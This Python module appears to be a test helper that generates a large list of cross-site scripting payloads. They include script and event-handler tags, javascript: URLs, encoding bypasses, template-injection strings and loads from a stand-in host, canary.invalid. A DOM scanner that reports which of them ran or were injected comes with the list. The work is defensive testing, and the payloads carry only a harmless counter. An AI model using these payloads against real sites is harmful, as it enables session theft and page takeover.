"""Markup that runs or injects where a page takes text for markup. MARK stands for a call that the page notices."""

from itertools import product

MARK = "(window.attacked=(window.attacked||0)+1)"
ELSEWHERE = "canary.invalid"
"""A host that no page of ours asks."""

_RUNS = (
    "<script>{m}</script>",
    "<SCRIPT>{m}</SCRIPT>",
    "<scr<script>ipt>{m}</scr</script>ipt>",
    "<script src=//{h}/x.js></script>",
    "<script>{m}//",
    "<img src=x onerror={m}>",
    "<img src=x onerror='{m}'>",
    '<img src=x onerror="{m}">',
    "<img/src=x/onerror={m}>",
    "<IMG SRC=x ONERROR={m}>",
    "<img src=//{h}/pixel>",
    "<svg onload={m}>",
    "<svg/onload={m}>",
    "<svg><script>{m}</script></svg>",
    "<svg><animate onbegin={m} attributeName=x dur=1s>",
    "<svg><set attributeName=x onbegin={m}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={m}>",
    "<body onload={m}>",
    "<iframe src=javascript:{m}>",
    '<iframe srcdoc="<script>parent.{m}</script>">',
    "<iframe src=//{h}/frame>",
    "<object data=javascript:{m}>",
    "<embed src=javascript:{m}>",
    "<video src=x onerror={m}>",
    "<audio src=x onerror={m}>",
    "<video><source onerror={m}></video>",
    "<input autofocus onfocus={m}>",
    "<select autofocus onfocus={m}>",
    "<textarea autofocus onfocus={m}>",
    "<details open ontoggle={m}><summary>x</summary></details>",
    "<marquee onstart={m}>x</marquee>",
    "<style>@import '//{h}/x.css';</style>",
    "<style>*{{background:url(//{h}/x)}}</style>",
    "<link rel=stylesheet href=//{h}/x.css>",
    "<base href=//{h}/>",
    "<meta http-equiv=refresh content='0;url=//{h}/'>",
    "<form action=//{h}/><button autofocus>Send</button></form>",
    "<a href=javascript:{m}>x</a>",
    "<a href='java&#9;script:{m}'>x</a>",
    "<p style=background:url(//{h}/x)>x</p>",
)
_BREAKS_OUT = (
    "{p}",
    '">{p}',
    "'>{p}",
    "--><!-- -->{p}",
    "</title>{p}",
    "</textarea>{p}",
    "</option></select>{p}",
)
_OTHERS = (
    '" onfocus={m} autofocus x="',
    "' onmouseover={m} x='",
    '" style=background:url(//{h}/x) x="',
    "javascript:{m}",
    "java\tscript:{m}",
    "JaVaScRiPt:{m}",
    "data:text/html,<script>{m}</script>",
    "vbscript:{m}",
    'https://a.example/?x="onerror={m}',
    "https://a.example/'><img src=x onerror={m}>",
    "http://user@{h}\u0000.example/<svg onload={m}>",
    "mailto:a@b.example?body=<script>{m}</script>",
    'a@b.example"onload={m}',
    'tel:+44"onclick={m} 1234567',
    "{{{{constructor.constructor('{m}')()}}}}",
    "${{{m}}}",
    "<%= {m} %>",
    "{{% raw %}}<script>{m}</script>{{% endraw %}}",
    "&lt;script&gt;{m}&lt;/script&gt;",
    "&#60;img src=x onerror={m}&#62;",
    "\\u003cimg src=x onerror={m}\\u003e",
    "\uff1cscript\uff1e{m}\uff1c/script\uff1e",
    "+ADw-script+AD4-{m}+ADw-/script+AD4-",
    "</script><script>{m}</script>",
    "]]><script>{m}</script>",
    "<![CDATA[<script>{m}</script>]]>",
    "<!--[if IE]><script>{m}</script><![endif]-->",
    "<x-attacked id=attacked>",
)


def payloads(number: int) -> list[str]:
    """So many payloads, the plainest first; at most 308."""
    pairs = [outer.replace("{p}", inner) for outer, inner in product(_BREAKS_OUT, _RUNS)]
    # One of the others after each plain one, so that a short list has of both.
    mixed = [one for pair in zip(pairs, _OTHERS, strict=False) for one in pair] + pairs[len(_OTHERS) :]
    return [one.format(m=MARK, h=ELSEWHERE) for one in mixed][:number]


INJECTED = """() => {
  const found = [];
  const look = (root) => {
    for (const element of root.querySelectorAll("*")) {
      if (element.shadowRoot) look(element.shadowRoot);
      const name = element.localName;
      const own = (url) => !url || new URL(url, location.href).origin === location.origin;
      if (/^(iframe|object|embed|base|marquee|audio|video|math|x-attacked)$/.test(name)) found.push(name);
      if (name === "script" && !(element.src && own(element.src))) found.push("script");
      if (name === "link" && !own(element.href)) found.push("link");
      if (name === "meta" && element.httpEquiv) found.push("meta");
      if (name === "form" && !own(element.getAttribute("action"))) found.push("form");
      if (name === "img" && !own(element.src)) found.push("img");
      if (name === "style" && /canary/.test(element.textContent)) found.push("style");
      for (const { name: attribute, value } of element.attributes) {
        if (/^on/i.test(attribute)) found.push(`${name} ${attribute}`);
        if (attribute === "style" && /canary/.test(value)) found.push(`${name} style`);
        const address = /^(href|src|action|formaction|data)$/.test(attribute) && value.replace(/[\\s\\0-\\x20]/g, "");
        if (/^(javascript|vbscript|data:text)/i.test(address)) found.push(`${name} ${attribute}=${value}`);
      }
    }
  };
  look(document);
  return { ran: window.attacked || 0, injected: found };
}"""
"""What ran on a page and what stands in it that only markup out of text can have put there; shadow roots included."""
